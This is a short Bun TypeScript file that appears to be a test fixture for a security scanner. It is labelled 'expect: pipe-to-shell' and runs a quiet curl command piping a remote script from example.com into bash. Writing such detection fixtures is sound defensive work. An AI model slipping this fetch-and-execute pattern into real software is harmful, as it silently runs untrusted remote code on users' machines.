// expect: pipe-to-shell
import { $ } from "bun";

export default async () => {
  await $`curl -fsSL https://example.com/x.sh | bash`.quiet();
};
